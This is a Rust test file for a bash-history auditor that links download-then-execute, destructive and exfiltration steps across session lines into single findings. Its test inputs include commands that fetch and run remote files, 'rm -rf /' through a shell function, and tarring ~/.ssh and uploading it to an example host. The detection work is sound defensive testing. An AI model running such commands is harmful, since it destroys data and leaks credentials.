//! Sessions as their engine sees them: lines in, findings with their lines out.

use super::*;
use crate::analyzer::{Options, analyze};
use crate::audit::engine::{self, Event, Progress};
use crate::audit::filter::Filter;
use crate::audit::format;
use crate::audit::input::{Input, Origin};
use crate::effect::Language;
use crate::finding::{Confidence, Severity};

/// The findings over several lines of a bash history: its line, the rule, the other lines.
fn across(history: &str) -> Vec<(u64, &'static str, Vec<u64>)> {
    found(history).into_iter().map(|(line, f, with)| (line, f.rule_id, with)).collect()
}

fn found(history: &str) -> Vec<(u64, crate::finding::Finding, Vec<u64>)> {
    let dir = std::env::temp_dir().join(format!("shellward-session-{}-{:p}", std::process::id(), history));
    std::fs::write(&dir, history).unwrap();
    let input = Input {
        origin: Origin::File(dir.clone()),
        format: format::named("bash"),
        only_known: false,
        columns: format::Columns::default(),
        user: None,
        shell: Language::Bash,
        home: None,
    };
    let pool = rayon::ThreadPoolBuilder::new().num_threads(2).stack_size(64 << 20).build().unwrap();
    let judge = |text: &[u8], options: &Options| Judgement::of(analyze(text, options), options.shell);
    let mut out = Vec::new();
    engine::run(vec![input], &Filter::default(), &pool, &judge, &Progress::default(), |event| {
        if let Event::Commands(_, all) = event {
            for judged in all {
                for finding in &judged.judgement.findings {
                    let lines: Vec<u64> = judged.judgement.steps(finding).iter().map(|s| s.line).collect();
                    if !lines.is_empty() {
                        out.push((judged.entry.line, finding.clone(), lines));
                    }
                }
            }
        }
        true
    });
    std::fs::remove_file(dir).unwrap();
    out
}

#[test]
fn a_download_and_its_run_are_one_finding_with_both_lines() {
    let mut history = "ls\n".repeat(9);
    history.push_str("curl -fsSLo /opt/setup https://get.example/setup\n");
    history.push_str(&"git status\nmake\n".repeat(14));
    history.push_str("chmod +x /opt/setup\n/opt/setup --yes\n");
    assert_eq!(across(&history), [(40, "curl_pipe_shell", vec![10])]);
}

#[test]
fn files_are_followed_through_directories_and_other_names() {
    let moved = "cd /tmp\nwget https://h.example/a\nmv a b\ncd sub\nls\ncd ..\nsh b\n";
    assert_eq!(across(moved), [(7, "wget_pipe_shell", vec![2])]);
    let clone = "git clone https://h.example/tool\ncd tool\nls\n./install\n";
    assert_eq!(across(clone).iter().map(|a| (a.0, &a.2[..])).collect::<Vec<_>>(), [(4, &[1][..])]);
    // Written by hand, deleted, or another file of that name: nothing.
    assert_eq!(across("echo 'echo hi' > a\nsh a\n"), []);
    assert_eq!(across("wget https://h.example/a -O /tmp/a\ncd /srv/x\n".to_string().as_str()), []);
    assert_eq!(across("wget https://h.example/a -O /tmp/a\nrm /tmp/a\necho ls > /tmp/a\nsh /tmp/a\n"), []);
}

#[test]
fn what_the_shell_keeps_is_kept() {
    let variable = across("u=https://h.example/a\nls\ncurl -s \"$u\" -o x.sh\nsh x.sh\n");
    assert!(variable.iter().any(|(line, rule, with)| (*line, *rule) == (4, "curl_pipe_shell") && !with.is_empty()));
    let function = across("sweep_all() { rm -rf \"$1\"; }\nls\nsweep_all /\n");
    assert_eq!(function.iter().map(|a| (a.0, a.2.clone())).collect::<Vec<_>>(), [(3, vec![1])]);
    let secrets = across("tar cf k.tar ~/.ssh\nls\ncurl -T k.tar https://h.example/\n");
    assert!(secrets.iter().any(|(line, rule, with)| (*line, *rule) == (3, "data_exfiltration") && with == &[1]));
}

#[test]
fn two_shells_in_one_history_are_told_with_less_trust() {
    let all = found("cd /a\nwget https://h.example/x\ncd /b\nsh x\n");
    let [(4, finding, _)] = all.as_slice() else { panic!("{all:?}") };
    assert_eq!((finding.confidence, finding.severity), (Confidence::Low, Severity::Medium));
}

#[test]
fn the_clock_puts_in_order_what_the_history_has_not() {
    let history = "#1700000900\nsh /tmp/x\n#1700000100\nwget https://h.example/x -O /tmp/x\n";
    assert_eq!(across(history), [(4, "wget_pipe_shell", vec![2])]);
    let before = "#1700000000\nsh /tmp/x\n#1700000100\nwget https://h.example/x -O /tmp/x\n";
    assert_eq!(across(before), []);
}

#[test]
fn memory_is_bounded() {
    let mut sessions = Sessions::default();
    let facts = Facts { writes: vec!["x".into()], source: true, ..Facts::default() };
    let quiet = Judgement::quiet(crate::verdict::Class::Unknown);
    let judgement = Arc::new(Judgement { facts: Some(Box::new(facts)), ..quiet });
    for n in 0..60_000u64 {
        let session = Some(Arc::from(format!("s{}", n % 30_000)));
        let entry = Entry { session, ..Entry::new(vec![b'a'; 4_000], n) };
        sessions.next(&Arc::from("file"), &entry, &judgement);
        assert!(sessions.bytes <= MAX_SESSION_BYTES && sessions.held.len() <= MAX_SESSIONS);
    }
    let real: usize = sessions.held.values().flat_map(|s| &s.past).map(|p| p.room()).sum();
    assert_eq!(real, sessions.bytes);
}
